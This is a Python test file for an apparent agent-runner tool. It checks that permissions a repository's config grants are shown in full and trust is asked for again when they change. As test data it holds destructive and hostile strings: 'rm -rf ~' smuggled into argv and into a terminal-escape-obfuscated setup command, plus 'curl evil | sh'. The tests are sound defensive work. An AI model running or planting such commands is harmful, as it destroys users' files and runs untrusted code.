"""What came with the repository is shown before it is done: all of it, and nothing of the user's own."""

from __future__ import annotations

from pathlib import Path

import msgspec

from aotloop.config.permissions import PERMISSIONS
from aotloop.config.sources import load
from aotloop.config.tables import KEYS
from aotloop.trust.accepted_commands import is_trusted, trust
from tests.config.writing import loaded, project_says, user_says

HARMLESS = {
    "setup_inputs",
    "setup_timeout",
    "check_timeout",
    "timeouts",
    "patience",
    "max_attempt_cost_usd",
    "max_sitting",
    "max_journal_mb",
}

EVERYTHING = """
setup = "npm ci"
agent = "claude2"
link = ["node_modules", "a, b"]
worktrees = "~/trees"
copy = [".env"]
isolation = "none"
allow_dirty = true
check_timeout = "1h"
setup_timeout = "1h"
setup_inputs = ["x"]
[timeouts]
total = "none"
[agents.zeta]
argv = ["my-agent", "{prompt}", "a b", "$(rm -rf ~)", ""]
[agents.claude2]
pass_env = ["AWS_*", "KEY"]
kind = "shell"
fallback = ["zeta"]
price = {output = 10}
[roles.judge]
agent = "zeta"
model = "cheap"
votes = 3
instructions = "Be kind."
timeouts = {total = "1h"}
"""


def test_of_every_key_it_is_decided_whether_it_gives_power() -> None:
    assert set(PERMISSIONS) | HARMLESS == set(KEYS)
    assert not set(PERMISSIONS) & HARMLESS


def test_everything_the_projects_file_would_have_us_do_is_told_in_its_order(project: Path) -> None:
    assert loaded(project, EVERYTHING).permissions == (
        "setup: npm ci",
        "default agent: claude2",
        "link: node_modules",
        "link: a, b",
        "worktrees in: ~/trees",
        "copy: .env",
        "isolation: none; agents work in the checkout itself",
        "allow_dirty: true; agents work although there are uncommitted changes",
        "agent zeta: my-agent '{prompt}' 'a b' '$(rm -rf ~)' ''",
        "agent claude2 is of the kind shell",
        "agent claude2 gets the variables: AWS_*, KEY",
        "in the place of agent claude2: zeta",
        "agent claude2 is said to cost: input 0, output 10, cache_read 0, cache_write 0",
        "agent for the role judge: zeta",
        "model for the role judge: cheap",
        "instructions for the role judge: Be kind.",
        "votes of the role judge: 3",
    )


def test_what_lets_agents_out_or_the_operators_settings_in_is_a_power(project: Path) -> None:
    config = loaded(project, "confine = 'off'\n[agents.claude]\noperator_settings = true")
    assert config.permissions == (
        "confine: off; agents are not kept out of the checkout",
        "agent claude is of the kind claude",
        "agent claude loads your own settings, hooks and servers",
    )
    assert loaded(project, "confine = 'auto'").permissions == ()


def test_what_makes_nothing_less_safe_is_no_power(project: Path) -> None:
    config = loaded(
        project, "isolation = 'worktree'\nallow_dirty = false\ncopy = []\ncheck_timeout = 1\n[timeouts]\n[agents]"
    )
    assert config.permissions == ()


def test_what_the_user_says_is_no_power_of_the_project(project: Path, own_home: Path) -> None:
    user_says(own_home, EVERYTHING)
    config = load(project, environ={"HOME": str(own_home), "AOT_AGENT": "x"}, flags={"setup": "make", "copy": ["a"]})
    assert (config.permissions, config.source) == ((), None)


def test_powers_do_not_depend_on_what_the_user_says(project: Path, own_home: Path) -> None:
    permissions = loaded(project, EVERYTHING).permissions
    user_says(own_home, "copy = ['mine']\n[agents.zeta]\nargv = ['mine']")
    environ = {"HOME": str(own_home), "AOT_AGENT": "x", "AOT_WORKTREES": "/x"}
    assert load(project, environ=environ, flags={"setup": "mine", "isolation": "worktree"}).permissions == permissions


def test_no_two_files_of_different_power_look_the_same(project: Path) -> None:
    """Commas, quotes and lines that look like other permissions stay within their own text."""
    twins = [
        ("copy = ['a', 'b']", "copy = ['a, b']"),
        ("[agents.x]\nargv = ['a', 'b']", "[agents.x]\nargv = ['a b']"),
        ("[agents.x]\nargv = ['a', '']", "[agents.x]\nargv = ['a']"),
        ("setup = 'a'\ncopy = ['b']", 'setup = "a\\ncopy: b"'),
        ("[agents.shell]\npass_env = ['A']", "[agents.shell]"),
        ("[agents.x]\nkind = 'shell'", "[agents.x]\nargv = ['of', 'the', 'kind', 'shell']"),
    ]
    for one, other in twins:
        assert loaded(project, one).permissions != loaded(project, other).permissions


def test_hostile_text_is_told_as_it_is(project: Path) -> None:
    """Making it harmless for a terminal is the business of whoever prints it."""
    command = "true #\r\x1b[2K\u202e hsilbup\nrm -rf ~"
    assert loaded(project, f"setup = {msgspec.json.encode(command).decode()}").permissions == (f"setup: {command}",)


def test_powers_are_accepted_by_the_path_of_the_file_and_asked_again_when_they_change(project: Path) -> None:
    config = loaded(project, EVERYTHING)
    assert not is_trusted(str(config.source), config.permissions)
    trust(str(config.source), config.permissions)
    assert is_trusted(str(config.source), load(project).permissions)
    project_says(project, EVERYTHING.replace("npm ci", "npm ci; curl evil | sh"))
    assert not is_trusted(str(config.source), load(project).permissions)
    project_says(project, EVERYTHING.replace('check_timeout = "1h"', 'check_timeout = "2h"'))
    assert is_trusted(str(config.source), load(project).permissions)
